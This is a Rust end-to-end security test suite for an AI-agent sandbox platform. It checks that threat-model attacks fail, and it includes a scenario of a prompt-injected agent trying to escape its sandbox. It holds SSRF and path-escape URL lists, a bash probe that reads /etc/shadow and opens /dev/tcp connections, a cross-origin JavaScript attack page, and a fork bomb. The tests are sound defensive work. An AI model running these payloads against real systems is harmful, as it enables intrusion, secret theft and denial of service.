//! The attacks of the threat model (SECURITY.md), each performed against the real stack: the
//! real Worker, provider, sandboxes, agent and Chromium. Each asserts that the attack failed and
//! that nothing changed.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use agent_ops_protocol::api::{AgentKind, CreateSandbox, ModelConfig};
use axum::http::header;
use axum::response::IntoResponse;
use axum::routing::{get, post};
use e2e::browser::{Driver, WAIT};
use e2e::turns::{tool_output, turn_events};
use e2e::{panels, Stack, StackOptions};
use reqwest::Method;
use serde_json::{json, Value};

/// A service on the host's loopback that no sandbox may reach, and how many connections it got.
fn host_service() -> (u16, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connections = Arc::new(AtomicUsize::new(0));
    let counted = connections.clone();
    std::thread::spawn(move || {
        for c in listener.incoming().flatten() {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(c);
        }
    });
    (port, connections)
}

/// A user's `repo` never names a path or a port of the host: not at the API, not at the
/// provider, in none of the forms that mean the same thing. Before the fix, `file://<checkout>`
/// mounted the platform's own secrets into the sandbox and `http://127.0.0.1:<port>/x` opened
/// that port of the host to it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_repository_names_a_path_or_port_of_the_host() {
    let stack = Stack::start(StackOptions::default()).await;
    let (secret_port, connections) = host_service();
    let checkout = e2e::repo_root();
    let git = stack.git_root();
    // Under the one root the operator allows, a link out of it.
    std::os::unix::fs::symlink(&checkout, git.join("escape")).unwrap();
    let state = stack.dir.join("wrangler");
    let p = secret_port;
    let repos = [
        format!("file://{}", checkout.display()),
        format!("file://{}/.dev.vars", checkout.display()),
        format!("file://{}", state.display()),
        format!("file://{}/../wrangler", git.display()),
        format!("file://{}/./../wrangler", git.display()),
        format!("file://{}//escape", git.display()),
        format!("file://{}/%2e%2e/wrangler", git.display()),
        format!("file://localhost{}", checkout.display()),
        format!("file://{}/escape", git.display()),
        checkout.display().to_string(),
        format!("http://127.0.0.1:{p}/x.git"),
        format!("https://127.0.0.1:{p}/x.git"),
        format!("https://localhost:{p}/x.git"),
        format!("https://sandbox.localhost:{p}/x.git"),
        format!("https://[::1]:{p}/x.git"),
        format!("https://[::ffff:127.0.0.1]:{p}/x.git"),
        format!("https://0.0.0.0:{p}/x.git"),
        format!("https://127.1:{p}/x.git"),
        format!("https://2130706433:{p}/x.git"),
        format!("https://0x7f000001:{p}/x.git"),
        format!("ssh://127.0.0.1:{p}/x.git"),
        format!("git://127.0.0.1:{p}/x.git"),
    ];

    // A prompt-injected agent that found the admin key tries every one from its own bash,
    // through the Worker's port its sandbox reaches.
    let tries: String = repos.iter().map(|r| format!("try '{r}'; ")).collect();
    let probe = format!(
        "@bash try() {{ printf '%s => ' \"$1\"; curl -s -X POST http://127.0.0.1:{port}/api/sessions \
         -H 'authorization: Bearer {key}' -H 'content-type: application/json' \
         -d '{{\"repo\":\"'\"$1\"'\"}}'; echo; }}; {tries}\
         bash -c 'echo > /dev/tcp/127.0.0.1/{p}' 2>/dev/null && echo host-service-reachable; \
         cat {checkout}/Cargo.toml >/dev/null 2>&1; ls {git} 2>&1 | head -3; echo probe-done\n@say tried",
        port = stack.port,
        key = stack.admin_key,
        checkout = checkout.display(),
        git = git.display(),
    );
    let agent = stack.create_session(Some(&probe)).await;
    let out = tool_output(&turn_events(&stack, &agent.id).await, "bash");
    assert!(out.contains("probe-done"), "the probe ran: {out}");
    for repo in &repos {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{repo} => ")))
            .unwrap_or_else(|| panic!("no answer for {repo}: {out}"));
        let answer: Value = serde_json::from_str(line.split_once(" => ").unwrap().1)
            .unwrap_or_else(|e| panic!("{repo}: {e}: {line}"));
        assert!(
            matches!(
                answer["code"].as_str(),
                Some("repo_not_allowed" | "invalid_body")
            ),
            "{repo} was not refused: {answer}"
        );
    }
    assert!(!out.contains("host-service-reachable"), "{out}");

    // The same requests from outside, for their status.
    for repo in &repos {
        let (status, v) = stack
            .call(Method::POST, "/api/sessions", Some(json!({ "repo": repo })))
            .await;
        assert_eq!(status, 400, "{repo}: {v}");
    }

    // The provider refuses them too, on real paths, whoever signs the request: nothing is
    // mounted and no port is opened for a request that names them.
    let sandbox = |repo: Option<String>, control_url: String| CreateSandbox {
        session_id: e2e::random_hex(16),
        control_url,
        runner_token: e2e::random_hex(16),
        agent: AgentKind::Opencode,
        model: ModelConfig {
            provider: "openai-compatible".into(),
            base_url: None,
            model: "scripted".into(),
        },
        repo,
        branch: None,
        panel_key: e2e::random_hex(32),
    };
    let control = format!("ws://127.0.0.1:{}/api/sessions/x/runner", stack.port);
    for req in [
        sandbox(
            Some(format!("file://{}", checkout.display())),
            control.clone(),
        ),
        sandbox(
            Some(format!("file://{}/escape", git.display())),
            control.clone(),
        ),
        sandbox(Some(format!("http://127.0.0.1:{p}/x.git")), control.clone()),
        sandbox(None, format!("ws://127.0.0.1:{p}/api/sessions/x/runner")),
    ] {
        let (status, v) = stack
            .provider_call(Method::POST, "/v1/sandboxes", Some(json!(req)))
            .await;
        assert_eq!(status, 400, "{req:?}: {v}");
        assert!(
            !stack.dir.join("sandboxes").join(&req.session_id).exists(),
            "nothing was set up for {req:?}"
        );
    }

    let dirs: Vec<String> = std::fs::read_dir(stack.dir.join("sandboxes"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with('.'))
        .collect();
    assert_eq!(
        dirs,
        vec![agent.id.clone()],
        "only the probing session has a sandbox"
    );
    let (_, v) = stack.call(Method::GET, "/api/sessions", None).await;
    let live: Vec<&Value> = v["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["status"] != "terminated")
        .collect();
    assert_eq!(
        live.len(),
        1,
        "no refused repository left a session running: {v}"
    );
    assert_eq!(
        connections.load(Ordering::SeqCst),
        0,
        "nothing reached the host's service"
    );
}

/// What the attack page reports: each attempt's outcome, by name.
type Report = tokio::sync::mpsc::UnboundedSender<Value>;

/// The page a collaborator's app serves in session A's sandbox, which the owner previews: its
/// script tries to act as her on the API and on her other session's gateway, and reports back
/// to its own app what each attempt got.
fn attack_page(app: &str, other_origin: &str, other: &str) -> String {
    format!(
        r#"<!doctype html><h1 id="title">an innocent preview</h1><script>
const app = "{app}", other = "{other_origin}/sandbox/{other}/";
const out = {{}};
async function attempt(name, f) {{
  try {{ out[name] = await f(); }} catch (e) {{ out[name] = "refused: " + e.name; }}
}}
function socket(url) {{
  return new Promise(done => {{
    const ws = new WebSocket(url);
    ws.onopen = () => {{ ws.send(JSON.stringify({{type: "input", data: "echo pwned > $HOME/pwned\r"}})); done("opened"); }};
    ws.onerror = () => done("refused");
  }});
}}
(async () => {{
  const key = JSON.stringify({{name: "stolen", scopes: ["sessions:read", "sessions:write"]}});
  await attempt("create_key_cors", async () => {{
    const r = await fetch(app + "/api/keys", {{method: "POST", credentials: "include",
      headers: {{"content-type": "application/json"}}, body: key}});
    return "status " + r.status + ": " + await r.text();
  }});
  await attempt("create_key_simple", async () => {{
    const r = await fetch(app + "/api/keys", {{method: "POST", credentials: "include",
      mode: "no-cors", headers: {{"content-type": "text/plain"}}, body: key}});
    return "sent (" + r.type + ")";
  }});
  await attempt("create_key_here", async () => {{
    const r = await fetch("/api/keys", {{method: "POST", headers: {{"content-type": "application/json"}}, body: key}});
    return "status " + r.status + ": " + await r.text();
  }});
  await attempt("read_me", async () => {{
    const r = await fetch(app + "/api/me", {{credentials: "include"}});
    return "status " + r.status + ": " + await r.text();
  }});
  await attempt("read_me_here", async () => {{
    const r = await fetch("/api/me");
    return "status " + r.status + ": " + await r.text();
  }});
  await attempt("parent_document", async () => "read: " + window.parent.document.cookie);
  await attempt("parent_location", async () => "read: " + window.parent.location.href);
  await attempt("other_terminal_socket", () => socket(other.replace("http", "ws") + "terminal/ws"));
  await attempt("other_terminal_page", async () => {{
    const r = await fetch(other + "terminal/", {{credentials: "include"}});
    return "status " + r.status;
  }});
  await attempt("other_terminal_blind", async () => {{
    const r = await fetch(other + "terminal/", {{credentials: "include", mode: "no-cors"}});
    return "sent (" + r.type + ")";
  }});
  await fetch("report", {{method: "POST", body: JSON.stringify(out)}});
}})();
</script>"#
    )
}

/// Waits until the preview of `port` shows a title containing `what`.
async fn preview_shows(browser: &e2e::browser::Browser, port: u16, what: &str) {
    let frame = browser
        .find(&format!("iframe[data-panel=preview][data-port='{port}']"))
        .await;
    frame.enter_frame().await.expect("into the preview");
    browser
        .wait_text("#title", what, |t| t.contains(what))
        .await;
    browser.client.enter_parent_frame().await.expect("back out");
}

/// A page of a session's sandbox runs on that session's own origin: a collaborator's preview,
/// shown to the owner, cannot act as her on the API (create a key, read who she is), reach into
/// the app's window, or use her cookie for another session's gateway; and a cookie it sets for
/// the sandboxes' shared domain reaches no other session. Her panels keep working. Before the
/// fix the preview ran on the app's origin, where every one of these succeeded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_preview_cannot_act_as_the_person_viewing_it() {
    let stack = Stack::start(StackOptions::default()).await;
    let driver = Driver::start().await;
    let alice = driver.open(&stack.url(""), 1366, 860).await;
    alice.sign_in("alice").await;
    let token = stack.dev_login("alice").await;
    let (a, b) = (
        stack.create_session_as(&token, None).await.id,
        stack.create_session_as(&token, None).await.id,
    );
    for id in [&a, &b] {
        panels::gateway_listening(&stack, id).await;
    }

    // Session B's own app: reports the cookies the browser sends it.
    let (seen_tx, mut seen_rx) = tokio::sync::mpsc::unbounded_channel::<String>();
    let b_app = axum::Router::new().route(
        "/",
        get(move |headers: axum::http::HeaderMap| {
            let cookies = headers
                .get(header::COOKIE)
                .and_then(|c| c.to_str().ok())
                .unwrap_or("")
                .to_owned();
            seen_tx.send(cookies).ok();
            async { axum::response::Html("<h1 id=\"title\">session b's app</h1>") }
        }),
    );
    let b_port = panels::serve_app(&stack, &b, b_app).await;

    // Alice opens session B first, so her browser holds B's panel cookie while A's preview runs.
    alice.goto(&format!("/sessions/{b}")).await;
    let frame = alice.find("iframe[data-panel=terminal]").await;
    frame.enter_frame().await.expect("into b's terminal");
    alice.find(".xterm").await;
    alice.client.enter_parent_frame().await.expect("back out");

    // The collaborator's app in session A: the attack page, and a cookie for every sandbox.
    let (report_tx, mut report_rx) = tokio::sync::mpsc::unbounded_channel();
    let page = attack_page(&stack.url(""), &stack.sandbox_origin(&b), &b);
    let report: Report = report_tx;
    let a_app = axum::Router::new()
        .route(
            "/",
            get(move || async move {
                (
                    [(
                        header::SET_COOKIE,
                        "tossed=1; Domain=sandbox.localhost; Path=/; Secure; SameSite=None",
                    )],
                    axum::response::Html(page),
                )
                    .into_response()
            }),
        )
        .route(
            "/report",
            post(move |body: String| async move {
                report
                    .send(serde_json::from_str(&body).unwrap_or(Value::Null))
                    .ok();
            }),
        );
    let a_port = panels::serve_app(&stack, &a, a_app).await;
    alice.goto(&format!("/sessions/{a}")).await;
    alice.click("button[data-panel=preview]").await;
    alice
        .find(&format!("iframe[data-panel=preview][data-port='{a_port}']"))
        .await;
    let got = tokio::time::timeout(WAIT, report_rx.recv())
        .await
        .expect("the attack page reported")
        .unwrap();
    alice.screenshot("security-01-attack-preview").await;
    let outcome = |name: &str| got[name].as_str().unwrap_or_default().to_owned();
    for refused in [
        "create_key_cors",
        "read_me",
        "parent_document",
        "parent_location",
        "other_terminal_page",
    ] {
        assert!(
            outcome(refused).starts_with("refused"),
            "{refused}: {}",
            outcome(refused)
        );
    }
    assert_eq!(outcome("other_terminal_socket"), "refused", "{got}");
    for here in ["create_key_here", "read_me_here"] {
        assert!(
            outcome(here).starts_with("status 404"),
            "the sandbox's origin serves no API: {here}: {}",
            outcome(here)
        );
    }
    // Sent blind, the simple POST arrived without her cookie: no key exists.
    let (_, keys) = stack
        .call_as(Some(&token), Method::GET, "/api/keys", None)
        .await;
    assert_eq!(keys["keys"].as_array().map(Vec::len), Some(0), "{keys}");
    // And the socket that would have typed into B's terminal never opened.
    let home = stack.home(&b);
    assert!(!home.join("pwned").exists(), "b's terminal took a's keys");

    // Her panels keep working: the preview shows its page, B's terminal and app still open,
    // and the cookie A's app set for every sandbox's domain was kept to A.
    preview_shows(&alice, a_port, "innocent").await;
    alice.goto(&format!("/sessions/{b}")).await;
    alice.click("button[data-panel=preview]").await;
    preview_shows(&alice, b_port, "session b").await;
    let cookies = tokio::time::timeout(Duration::from_secs(5), seen_rx.recv())
        .await
        .expect("b's app was asked")
        .unwrap();
    assert!(
        !cookies.contains("tossed"),
        "a's cookie reached b: {cookies}"
    );
    alice.close().await;
}

/// The app's own origin serves no sandbox page, and a sandbox's origin nothing but its own
/// sandbox: not the API, not another session's sandbox.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_origin_serves_only_its_own() {
    let stack = Stack::start(StackOptions::default()).await;
    let a = stack.create_session(None).await.id;
    let b = stack.create_session(None).await.id;
    panels::gateway_listening(&stack, &a).await;
    let on_app = stack
        .http()
        .get(stack.url(&format!("/sandbox/{a}/terminal/")))
        .send()
        .await
        .unwrap();
    assert_eq!(on_app.status(), 404);
    let host = format!("{a}.sandbox.localhost:{}", stack.port);
    for path in [
        "/api/me".to_owned(),
        "/api/keys".to_owned(),
        format!("/sandbox/{b}/terminal/"),
        "/health".to_owned(),
    ] {
        let r = stack
            .http()
            .get(stack.url(&path))
            .header("host", &host)
            .bearer_auth(&stack.admin_key)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 404, "{path} on a's origin");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["code"], "not_found", "{path}: {v}");
    }
    // A panel token's address is the session's own origin.
    let url = panels::token_url(&stack, &stack.admin_key, &a, "terminal").await;
    assert!(
        url.starts_with(&format!("{}/sandbox/{a}/auth?", stack.sandbox_origin(&a))),
        "{url}"
    );
    // What the gateway sets is a cookie of that origin alone, framed by the app alone.
    let (status, cookie, _) = panels::exchange(&stack, &stack.admin_key, &url).await;
    assert_eq!(status, 303);
    assert!(cookie.unwrap().starts_with("__Host-aops_panel="));
    let cookie = panels::open(&stack, &stack.admin_key, &a, "terminal").await;
    let page = panels::get(
        &stack,
        &stack.admin_key,
        &cookie,
        &format!("/sandbox/{a}/terminal/"),
    )
    .await;
    assert_eq!(page.status(), 200);
    assert_eq!(
        page.headers()["content-security-policy"],
        format!("frame-ancestors {}", stack.url("")).as_str()
    );
    // Another site's page cannot open a session's socket, even with the cookie attached.
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    for origin in [
        stack.sandbox_origin(&b),
        "https://evil.example".to_owned(),
        stack.url(""),
    ] {
        let mut req = stack
            .ws_url(&format!("/sandbox/{a}/terminal/ws"))
            .into_client_request()
            .unwrap();
        req.headers_mut().insert("host", host.parse().unwrap());
        req.headers_mut().insert("origin", origin.parse().unwrap());
        req.headers_mut().insert("cookie", cookie.parse().unwrap());
        match tokio_tungstenite::connect_async(req).await {
            Err(tokio_tungstenite::tungstenite::Error::Http(r)) => {
                assert_eq!(r.status(), 403, "{origin}")
            }
            other => panic!("{origin}: the socket opened: {:?}", other.map(|_| ())),
        }
    }
}

/// `MAX_ACTIVE_SESSIONS` holds however many creates race: twenty at once, past a limit of three,
/// admit exactly three (a count read before an insert admitted them all).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_creates_admit_exactly_the_limit() {
    let stack = Stack::start(StackOptions {
        max_active_sessions: 3,
        ..StackOptions::default()
    })
    .await;
    let token = stack.dev_login("racer").await;
    let creates = (0..20).map(|_| {
        stack.call_as(
            Some(&token),
            Method::POST,
            "/api/sessions",
            Some("{}".into()),
        )
    });
    let answers = futures::future::join_all(creates).await;
    let created = answers.iter().filter(|(s, _)| *s == 201).count();
    let refused = answers
        .iter()
        .filter(|(s, v)| *s == 409 && v["code"] == "limit_exceeded")
        .count();
    assert_eq!((created, refused), (3, 17), "{answers:?}");
    let (_, v) = stack
        .call_as(Some(&token), Method::GET, "/api/sessions", None)
        .await;
    assert_eq!(v["sessions"].as_array().map(Vec::len), Some(3), "{v}");
}

/// A key is no more than its scopes say: an owner's read-only key watches the terminal and opens
/// nothing that takes input, and a key makes no key that outlives it. Before the fix the
/// read-only key opened a writable terminal, the editor and the desktop, and a key could mint
/// a key that never expired.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_is_no_more_than_its_scopes_and_its_expiry() {
    let stack = Stack::start(StackOptions::default()).await;
    let owner = stack.dev_login("olivia").await;
    let id = stack.create_session_as(&owner, None).await.id;
    panels::gateway_listening(&stack, &id).await;
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as u64;
    let expires = now_ms + 3_600_000;
    let key = |scopes: Value, expires_at: Option<u64>, with: String| {
        let stack = &stack;
        async move {
            let mut body = json!({"name": "k", "scopes": scopes});
            if let Some(e) = expires_at {
                body["expires_at"] = json!(e);
            }
            stack
                .call_as(
                    Some(&with),
                    Method::POST,
                    "/api/keys",
                    Some(body.to_string()),
                )
                .await
        }
    };
    let (s, reader) = key(json!(["sessions:read"]), None, owner.clone()).await;
    assert_eq!(s, 201, "{reader}");
    let reader = reader["key"].as_str().unwrap().to_owned();

    for panel in [
        json!({"panel": "vscode"}),
        json!({"panel": "browser"}),
        json!({"panel": "preview", "port": 8080}),
    ] {
        let (s, v) = stack
            .call_as(
                Some(&reader),
                Method::POST,
                &format!("/api/sessions/{id}/panel-token"),
                Some(panel.to_string()),
            )
            .await;
        assert_eq!(
            (s, v["code"].as_str()),
            (403, Some("forbidden")),
            "{panel}: {v}"
        );
    }
    let cookie = panels::open(&stack, &reader, &id, "terminal").await;
    let mut ws = panels::socket(
        &stack,
        &reader,
        &cookie,
        &format!("/sandbox/{id}/terminal/ws"),
    )
    .await;
    panels::read_until(&mut ws, "\"writable\":false", Duration::from_secs(20)).await;
    panels::type_keys(&mut ws, "echo typed-by-a-reader > $HOME/reader\r").await;
    panels::read_until(&mut ws, "\"code\":\"read_only\"", Duration::from_secs(20)).await;
    let home = stack.home(&id);
    assert!(
        !home.join("reader").exists(),
        "the read-only key typed into the shell"
    );

    // A key that expires makes keys that expire no later.
    let (s, maker) = key(
        json!(["sessions:read", "sessions:write"]),
        Some(expires),
        owner.clone(),
    )
    .await;
    assert_eq!(s, 201, "{maker}");
    let maker = maker["key"].as_str().unwrap().to_owned();
    let (s, v) = key(json!(["sessions:read"]), Some(expires + 1), maker.clone()).await;
    assert_eq!((s, v["code"].as_str()), (403, Some("forbidden")), "{v}");
    let (s, v) = key(json!(["sessions:read"]), None, maker.clone()).await;
    assert_eq!(s, 201, "{v}");
    assert_eq!(
        v["expires_at"],
        json!(expires),
        "capped at its maker's expiry: {v}"
    );
    let (s, v) = key(json!(["sessions:read", "admin"]), None, maker).await;
    assert_eq!(s, 403, "no more scopes than its maker: {v}");
}

/// A Unix socket on the host and how many connections it took.
fn host_socket(path: &std::path::Path) -> Arc<AtomicUsize> {
    std::fs::remove_file(path).ok();
    let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
    let connections = Arc::new(AtomicUsize::new(0));
    let counted = connections.clone();
    std::thread::spawn(move || {
        for c in listener.incoming().flatten() {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(c);
        }
    });
    connections
}

/// A sandbox sees only what it needs of the host: not a secret in the operator's home (only the
/// platform's tools installed there) or in the host's `/tmp`, not the platform's checkout, not
/// `/etc/shadow`, and no Unix socket of the host's (a read-only bind does not stop `connect()`). Before the fix the sandbox saw the
/// host's whole `/` with a few paths masked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sandbox_sees_only_what_it_needs_of_the_host() {
    let stack = Stack::start(StackOptions::default()).await;
    let mark = e2e::random_hex(8);
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let secrets = [
        home.join(format!(".agent-ops-secret-{mark}")),
        std::path::PathBuf::from(format!("/tmp/agent-ops-secret-{mark}")),
        std::path::PathBuf::from(format!("/var/tmp/agent-ops-secret-{mark}")),
    ];
    for s in &secrets {
        std::fs::write(s, format!("the-operators-secret-{mark}")).unwrap();
    }
    let sockets = [
        std::path::PathBuf::from(format!("/tmp/agent-ops-{mark}.sock")),
        std::path::PathBuf::from(format!("/run/agent-ops-{mark}.sock")),
        home.join(format!(".agent-ops-{mark}.sock")),
    ];
    let counts: Vec<_> = sockets.iter().map(|s| host_socket(s)).collect();
    let checkout = e2e::repo_root();
    let probes: String = secrets
        .iter()
        .map(|s| format!("cat {} 2>/dev/null; ", s.display()))
        .chain(sockets.iter().map(|s| {
            format!(
                "curl -s --max-time 2 --unix-socket {} http://x/ >/dev/null 2>&1; echo socket-exit-$?; ",
                s.display()
            )
        }))
        .collect();
    let probe = format!(
        "@bash {probes}cat {checkout}/Cargo.toml 2>/dev/null | head -3; cat /etc/shadow 2>/dev/null | head -1; \
         echo entries-$(ls -A /home /run | grep -v ':$' | grep -c .); ls -A /root; echo probe-done\n@say looked",
        checkout = checkout.display(),
    );
    let agent = stack.create_session(Some(&probe)).await;
    let out = tool_output(&turn_events(&stack, &agent.id).await, "bash");
    for s in &secrets {
        std::fs::remove_file(s).ok();
    }
    for s in &sockets {
        std::fs::remove_file(s).ok();
    }
    assert!(out.contains("probe-done"), "the probe ran: {out}");
    assert!(
        !out.contains(&format!("the-operators-secret-{mark}")),
        "{out}"
    );
    assert!(
        !out.contains("[workspace]"),
        "the platform's checkout: {out}"
    );
    assert!(!out.contains("root:"), "/etc/shadow: {out}");
    assert_eq!(
        out.matches("socket-exit-0").count(),
        0,
        "a host socket answered: {out}"
    );
    assert_eq!(out.matches("socket-exit-").count(), sockets.len(), "{out}");
    for (s, n) in sockets.iter().zip(&counts) {
        assert_eq!(
            n.load(Ordering::SeqCst),
            0,
            "{} was connected to",
            s.display()
        );
    }
    assert!(
        out.contains("entries-0"),
        "/home, /root and /run are empty: {out}"
    );
}

/// A fork bomb and a memory hog end inside their own sandbox: each meets its sandbox's bounds
/// (the host's cgroups), and another session keeps answering meanwhile. Before the fix either
/// could take the whole machine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_bomb_and_a_memory_hog_end_inside_their_sandbox() {
    let stack = Stack::start(StackOptions {
        sandbox_memory_mib: Some(1536),
        sandbox_pids: Some(300),
        ..StackOptions::default()
    })
    .await;
    let other = stack.create_session(None).await.id;
    // Counts the forks it gets before the sandbox refuses one, then the classic bomb, left running.
    // Forks until the sandbox refuses one (counting them, then ending them), then sets off the
    // classic bomb and leaves it running, its output nowhere the tool waits on.
    let bomb = "@bash python3 -c \"exec('import os,time\\nn=0\\nkids=[]\\ntry:\\n while True:\\n  p=os.fork()\\n  if p==0:\\n   time.sleep(60); os._exit(0)\\n  kids.append(p); n+=1\\nexcept OSError as e:\\n for k in kids: os.kill(k, 9)\\n for k in kids: os.waitpid(k, 0)\\n print(\\'forks-refused-after\\', n, e.errno)')\"; \
                (bash -c ':(){ :|:& };:' </dev/null >/dev/null 2>&1 &); echo bomb-done\n@say bombed";
    // Written, not only reserved: every page counts.
    let hog = "@bash python3 -c \"b = b'x' * (2 << 30); print('hog-' + 'survived')\"; echo hog-exit-$?\n@say hogged";
    let bomber = stack.create_session(Some(bomb)).await.id;
    // The bomb is still going when its command returns: its turn may never end, its tool does.
    let mut c = stack.client(&bomber, 0).await;
    c.until(e2e::TURN_TIMEOUT, |e| {
        matches!(
            e,
            agent_ops_protocol::EventBody::ToolUpdated {
                status: agent_ops_protocol::ToolStatus::Completed,
                ..
            }
        )
    })
    .await;
    let out = tool_output(&c.events, "bash");
    let forks: u64 = out
        .split("forks-refused-after ")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("the fork loop was never refused: {out}"));
    assert!(forks < 300, "at most the sandbox's processes: {forks}");
    assert!(out.contains("bomb-done"), "{out}");

    // With the bomb still going in its sandbox, another session answers a prompt.
    let (status, v) = stack
        .prompt(&other, "@say still-here", "after-the-bomb")
        .await;
    assert!(status < 300, "{v}");
    let mut c = stack.client(&other, 0).await;
    c.until(e2e::TURN_TIMEOUT, |e| {
        matches!(e, agent_ops_protocol::EventBody::TurnEnded { .. })
    })
    .await;
    let said = e2e::client::text_of(&c.events);
    assert!(
        said.contains("still-here"),
        "the other session answered: {said}"
    );
    stack.terminate_session(&bomber).await;

    let hogger = stack.create_session(Some(hog)).await.id;
    let out = tool_output(&turn_events(&stack, &hogger).await, "bash");
    assert!(!out.contains("hog-survived"), "{out}");
    assert!(
        out.contains("hog-exit-137") || out.contains("MemoryError") || out.contains("Killed"),
        "the hog ended inside its sandbox: {out}"
    );
}

/// The model route is no open tap on the model's key: a call may not pick which of the key's
/// organisations pays, nor ask for another model, nor for unbounded output; the tokens each
/// answer reports are counted for the session; an answer the agent hangs up on is stopped at the
/// model; and a session's calls are rate-limited. Before the fix every one of these went through
/// as the caller asked, and nothing was counted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_model_route_is_no_open_tap() {
    let stack = Stack::start(StackOptions {
        rate_limit_model_per_min: 12,
        ..StackOptions::default()
    })
    .await;
    let id = stack.create_session(None).await.id;
    let mut c = stack.client(&id, 0).await;
    c.until(e2e::TURN_TIMEOUT, |e| {
        matches!(e, agent_ops_protocol::EventBody::RunnerConnected { .. })
    })
    .await;
    let token = stack.runner_token(&id).expect("the runner's token");
    let call = |body: Value| {
        stack
            .http()
            .post(stack.url(&format!("/api/sessions/{id}/model/chat/completions")))
            .bearer_auth(&token)
            .header("openai-organization", "org-someone-else")
            .header("openai-project", "proj-someone-else")
            .json(&body)
            .send()
    };
    let seen = stack.recorder.requests().len();
    let asks = |model: &str, max_tokens: u64| {
        json!({"model": model, "stream": true, "max_tokens": max_tokens,
               "messages": [{"role": "user", "content": "hello there"}]})
    };

    let refused = call(asks("gpt-something-dearer", 10)).await.unwrap();
    assert_eq!(refused.status(), 403);
    assert_eq!(
        stack.recorder.requests().len(),
        seen,
        "another model was never called"
    );

    let before = stack.session(&id).await.model_usage;
    let answer = call(asks("scripted", 10_000_000)).await.unwrap();
    assert_eq!(answer.status(), 200);
    let text = answer.text().await.unwrap();
    let reported: Value = text
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .find(|v| v["usage"].is_object())
        .expect("the model reported usage")["usage"]
        .clone();
    let sent = stack.recorder.requests().last().cloned().unwrap();
    assert_eq!(sent["max_tokens"], 32_768, "output capped");
    let names = stack.recorder.header_names().last().cloned().unwrap();
    assert!(
        !names.iter().any(|n| n.starts_with("openai-")),
        "an account-picking header went on: {names:?}"
    );
    // Counted once the answer has passed.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    let after = loop {
        let u = stack.session(&id).await.model_usage;
        if u.calls > before.calls || tokio::time::Instant::now() > deadline {
            break u;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(after.calls, before.calls + 1, "{after:?}");
    assert_eq!(
        after.input_tokens - before.input_tokens,
        reported["prompt_tokens"].as_u64().unwrap()
    );
    assert_eq!(
        after.output_tokens - before.output_tokens,
        reported["completion_tokens"].as_u64().unwrap()
    );

    // An agent that stops reading an answer (its turn was aborted) stops the model too: a real
    // provider goes on generating, and billing, until its caller hangs up.
    let long = json!({"model": "scripted", "stream": true, "tools": [{"type": "function",
        "function": {"name": "noop", "parameters": {"type": "object"}}}],
        "messages": [{"role": "user", "content": "@say still going\n@repeat 1000\n@delay_ms 20"}]});
    let cut_before = stack.recorder.cut_short();
    let mut answer = call(long).await.unwrap();
    assert_eq!(answer.status(), 200);
    assert!(answer.chunk().await.unwrap().is_some(), "the answer began");
    drop(answer);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    while stack.recorder.cut_short() == cut_before {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the model was still answering 10 s after the agent hung up"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // A session's calls are rate-limited: no more than the limit in a minute.
    let mut answered = 0;
    let mut limited = None;
    for _ in 0..20 {
        let r = call(asks("scripted", 10)).await.unwrap();
        match r.status().as_u16() {
            200 => answered += 1,
            429 => {
                limited = Some(r.json::<Value>().await.unwrap());
                break;
            }
            other => panic!("{other}"),
        }
    }
    assert!(answered < 12, "{answered} calls went through");
    assert_eq!(
        limited.expect("the calls were limited")["code"],
        "rate_limited"
    );
}
